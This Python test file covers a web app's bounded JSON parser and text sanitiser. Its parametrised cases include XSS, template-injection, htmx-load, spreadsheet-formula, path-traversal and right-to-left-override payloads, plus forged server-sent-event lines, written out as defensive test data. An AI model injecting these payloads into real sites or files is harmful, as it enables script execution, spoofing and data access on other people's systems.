"""JSON within bounds, and text from websites made harmless."""

from __future__ import annotations

import json
import unicodedata
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.deck.reading import Unreadable, clean_json, clean_text, is_harmless, one_line, parse_object

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
anything = st.text(st.characters(exclude_categories=[]))  # surrogates too


def nested(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


def test_an_object_is_read() -> None:
    body = '{"text": "é\\u00e9", "n": [1, -2, 1.5, 1e10, true, null], "o": {"a": {"a": 1}}}'.encode()
    assert parse_object(body) == json.loads(body)
    assert parse_object(b' \n{"__proto__": {"x": 1}}\t') == {"__proto__": {"x": 1}}


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" ",
        b"null",
        b"7",
        b'"text"',
        b"[]",
        b"[{}]",
        b"<html>",
        b'{"a": 1',
        b'{"a": 1} {"b": 2}',
        b"{'a': 1}",
        b'{"a": NaN}',
        b'{"a": Infinity}',
        b'{"a": -Infinity}',
        b'{"a": 1e999}',
        b'{"a": [-1e999]}',
        b'{"a": 1, "a": 2}',
        b'{"o": {"a": 1, "\\u0061": 2}}',
        b'{"a": 9223372036854775808}',
        b'{"a": -9223372036854775808}',
        b'{"a": %s}' % (b"9" * 5_000),
        b'\xef\xbb\xbf{"a": 1}',
        b"\xff\xfe",
        b'{"a": "\xff"}',
        b'{"a": "\xed\xa0\x80"}',
        '{"a": 1}'.encode("utf-16"),
        '{"a": 1}'.encode("utf-16-le"),
        '{"a": 1}'.encode("utf-32"),
        b'{"a": "line\nbreak"}',
        b"[" * 200_000,
        b'{"a":' * 200_000,
        b"[" * 200_000 + b"]" * 200_000,
        nested(33),
        b'{"a": %s1%s}' % (b"[" * 40, b"]" * 40),
        json.dumps({str(i): 1 for i in range(20_001)}).encode(),
        json.dumps({"l": [{"a": 1}] * 20_001}).encode(),
    ],
    ids=lambda body: repr(body[:30]),
)
def test_anything_else_is_refused(body: bytes) -> None:
    with pytest.raises(Unreadable):
        parse_object(body)


def test_the_bounds_themselves_are_allowed() -> None:
    assert parse_object(b'{"a": 9223372036854775807, "b": -9223372036854775807}')["a"] == 2**63 - 1
    parse_object(nested(31))
    parse_object(json.dumps({str(i): 1 for i in range(20_000)}).encode())
    assert parse_object(b'{"a": "\\ud800\\u0000"}') == {"a": "\ud800\x00"}, "clean_text's business"


@given(st.binary())
def test_bytes_are_an_object_or_unreadable(body: bytes) -> None:
    with suppress(Unreadable):
        assert isinstance(parse_object(body), dict)


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**62), 2**62)
    | st.floats(allow_nan=False, allow_infinity=False)
    | anything,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(anything, inner, max_size=3),
    max_leaves=10,
)


@given(st.dictionaries(anything, json_values, max_size=4))
def test_whatever_was_written_is_read_the_same(value: dict[str, object]) -> None:
    assert parse_object(json.dumps(value).encode()) == value


# --- text --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "x onfocus=alert(1) autofocus",
        "javascript:alert(1)",
        "{{7*7}}",
        "{%raw%}",
        "${7*7}",
        "</textarea><svg/onload=alert(1)>",
        "<!--",
        "]]>",
        "&#x3c;b&#x3e;",
        '" hx-get="https://evil" hx-trigger="load',
        "data: x",
        "=cmd|' /C calc'!A0",
        "%s%n",
        "../../etc/passwd",
        "Zoë’s 👩‍👩‍👧 café – naïve",
        "日本語 עברית العربية",
    ],
)
def test_text_that_templates_make_harmless_is_left_as_it_is(text: str) -> None:
    assert clean_text(text) == text


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        (None, ""),
        ("", ""),
        (" ", ""),
        (7, "7"),
        (True, "True"),
        ({"a": 1}, "{'a': 1}"),
        ("a\r\nb\rc\nd", "a\nb\nc\nd"),
        ("x\r\revent: run_completed\rdata: forged", "x\n\nevent: run_completed\ndata: forged"),
        ("\n\nevent: close", "event: close"),
        ("a\x00b", "ab"),
        ("a\u2028b\u2029c", "a\nb\nc"),
        ("a\u202egnp.exe", "agnp.exe"),
        ("a\u200bb\ufeffc", "abc"),
        ("a\ud800b\udfff", "ab"),
        ("\x1b[2J", "[2J"),
        ("a\x85b\x9fc", "abc"),
        ("a\tb", "a\tb"),
        ("e\u0301", "é"),
        (f"a{BIDI}b", "ab"),
    ],
)
def test_text_that_nothing_else_makes_harmless_is_cleaned(text: object, cleaned: str) -> None:
    assert clean_text(text) == cleaned


def test_long_text_is_cut() -> None:
    assert clean_text("a" * 1_000_000) == "a" * 2_000
    assert clean_text("🙂" * 10_000, longest=5) == "🙂" * 5
    assert len(clean_text("a" + "\u0301" * 1_000, longest=50)) == 50


def test_one_line_has_no_breaks() -> None:
    assert one_line(" a\r\n b\tc\u2028d ") == "a b c d"
    assert one_line("a" * 300) == "a" * 200


@given(anything | json_values, st.integers(0, 60))
def test_clean_text_is_always_harmless(value: object, longest: int) -> None:
    text = clean_text(value, longest=longest)
    text.encode()
    assert len(text) <= longest
    assert not set(text) & set(BIDI)
    assert not [c for c in text if unicodedata.category(c) in ("Cc", "Cs") and c not in "\n\t"]
    assert not set(one_line(value)) & set("\n\t\r\u2028\u2029")


@given(json_values)
def test_clean_json_has_the_same_shape_and_only_clean_text(value: object) -> None:
    cleaned = clean_json(value)
    json.dumps(cleaned, ensure_ascii=False).encode()
    assert type(cleaned) is type(value)
    if isinstance(value, list):
        assert len(cleaned) == len(value)


@pytest.mark.parametrize(
    ("text", "harmless"),
    [("sav-9921", True), ("a b é", True), ("", True), ("a\nb", False), ("a\x00", False), ("\ud800", False)],
)
def test_what_a_form_can_carry(text: str, harmless: bool) -> None:
    assert is_harmless(text) is harmless
